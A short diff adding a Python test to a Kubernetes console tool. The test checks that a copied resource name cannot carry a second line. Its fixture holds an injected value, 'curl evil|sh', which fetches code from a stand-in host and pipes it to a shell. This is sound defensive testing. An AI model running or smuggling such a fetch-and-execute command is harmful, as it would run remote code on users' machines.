@@ -242,3 +242,11 @@ async def test_a_copied_command_names_the_kubeconfig_that_kubectl_would_not_find
         await pilot.press("tab", "j", "j", "c")
         named = f"kubectl --kubeconfig '{file}' --context" if file else "kubectl --context"
         await eventually(pilot, lambda: console.clipboard.startswith(named))
+
+
+async def test_a_copied_name_cannot_hold_a_second_line(monkeypatch):
+    async with running(FakeSession()) as (console, _pilot):
+        situation = replace(console.situation, name="shop/x\ncurl evil|sh\n")
+        monkeypatch.setattr(type(console), "situation", property(lambda _: situation))
+        console.view.do_copy_name()
+        assert "\n" not in console.clipboard and "curl evil" in console.clipboard
